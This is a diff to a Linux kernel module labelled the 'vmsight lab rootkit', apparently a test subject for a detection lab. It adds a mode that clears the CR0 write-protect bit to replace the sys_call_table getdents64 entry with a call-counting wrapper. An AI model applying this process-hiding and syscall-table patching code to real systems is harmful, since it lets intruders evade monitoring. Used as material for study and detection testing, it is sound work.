@@ -12,6 +12,9 @@
  *   mode=ftrace  a code patch: the `call __fentry__` NOP at the start of filldir64 (the
  *                getdents64 callback) becomes a call into ftrace, which sends filldir64 to
  *                hide_filldir64.
+ *   mode=sct     the classic: sys_call_table[__NR_getdents64] replaced (CR0.WP cleared for the
+ *                write). The wrapper only counts its calls (/sys/module/vmsight_hide/parameters/
+ *                sct_calls): on this kernel it stays 0, which is the point of this mode.
  *
  * Unloading restores what was changed. For the vmsight lab only: it never hides itself.
  */
@@ -22,6 +25,8 @@
 #include <linux/kprobes.h>
 #include <linux/ftrace.h>
 #include <linux/string.h>
+#include <linux/syscalls.h>
+#include <asm/unistd.h>
 
 MODULE_LICENSE("GPL");
 MODULE_DESCRIPTION("vmsight lab rootkit: hides one PID from /proc (fops or ftrace hook)");
@@ -162,7 +167,59 @@ static void ftrace_hook_remove(void)
 	ftrace_set_filter_ip(&hide_ftrace_ops, filldir64_address, 1, 0);
 }
 
-static bool fops_mode;
+/* ---- mode=sct: sys_call_table[__NR_getdents64] replaced by a counting wrapper ---- */
+
+typedef long (*syscall_fn)(const struct pt_regs *);
+static syscall_fn *sys_call_table_address;
+static syscall_fn real_getdents64;
+static atomic_t sct_call_count = ATOMIC_INIT(0);
+static int sct_calls;
+
+static int sct_calls_get(char *buffer, const struct kernel_param *kp)
+{
+	return sprintf(buffer, "%d\n", atomic_read(&sct_call_count));
+}
+
+static const struct kernel_param_ops sct_calls_ops = { .get = sct_calls_get };
+module_param_cb(sct_calls, &sct_calls_ops, &sct_calls, 0444);
+MODULE_PARM_DESC(sct_calls, "calls that reached the replaced sys_call_table entry (mode=sct)");
+
+static long sct_getdents64(const struct pt_regs *regs)
+{
+	atomic_inc(&sct_call_count);
+	return real_getdents64(regs);
+}
+
+/* sys_call_table is read-only after boot: clear CR0.WP around the write (native_write_cr0 refuses to). */
+static void write_table_entry(syscall_fn *slot, syscall_fn value)
+{
+	unsigned long cr0 = read_cr0();
+
+	preempt_disable();
+	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~X86_CR0_WP) : "memory");
+	WRITE_ONCE(*slot, value);
+	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
+	preempt_enable();
+}
+
+static int sct_hook_install(void)
+{
+	sys_call_table_address = (syscall_fn *)lookup_name("sys_call_table");
+	if (!sys_call_table_address)
+		return -ENOENT;
+	real_getdents64 = sys_call_table_address[__NR_getdents64];
+	write_table_entry(&sys_call_table_address[__NR_getdents64], sct_getdents64);
+	return 0;
+}
+
+static void sct_hook_remove(void)
+{
+	write_table_entry(&sys_call_table_address[__NR_getdents64], real_getdents64);
+	synchronize_rcu();
+}
+
+enum hide_mode { MODE_FOPS, MODE_FTRACE, MODE_SCT };
+static enum hide_mode hide_mode;
 
 static int __init hide_init(void)
 {
@@ -174,28 +231,37 @@ static int __init hide_init(void)
 	}
 	snprintf(hidden_name, sizeof hidden_name, "%d", hide_pid);
 	if (strcmp(mode, "fops") == 0) {
-		fops_mode = true;
+		hide_mode = MODE_FOPS;
 		err = fops_hook_install();
 	} else if (strcmp(mode, "ftrace") == 0) {
+		hide_mode = MODE_FTRACE;
 		err = ftrace_hook_install();
+	} else if (strcmp(mode, "sct") == 0) {
+		hide_mode = MODE_SCT;
+		err = sct_hook_install();
 	} else {
-		pr_err("vmsight_hide: mode=%s: use fops or ftrace\n", mode);
+		pr_err("vmsight_hide: mode=%s: use fops, ftrace or sct\n", mode);
 		return -EINVAL;
 	}
 	if (err) {
 		pr_err("vmsight_hide: mode=%s failed: %d\n", mode, err);
 		return err;
 	}
-	pr_info("vmsight_hide: hiding PID %d (mode=%s)\n", hide_pid, mode);
+	if (hide_mode == MODE_SCT)
+		pr_info("vmsight_hide: sys_call_table[%d] replaced, meant to hide PID %d\n", __NR_getdents64, hide_pid);
+	else
+		pr_info("vmsight_hide: hiding PID %d (mode=%s)\n", hide_pid, mode);
 	return 0;
 }
 
 static void __exit hide_exit(void)
 {
-	if (fops_mode)
+	if (hide_mode == MODE_FOPS)
 		fops_hook_remove();
-	else
+	else if (hide_mode == MODE_FTRACE)
 		ftrace_hook_remove();
+	else
+		sct_hook_remove();
 	pr_info("vmsight_hide: PID %d visible again\n", hide_pid);
 }
 
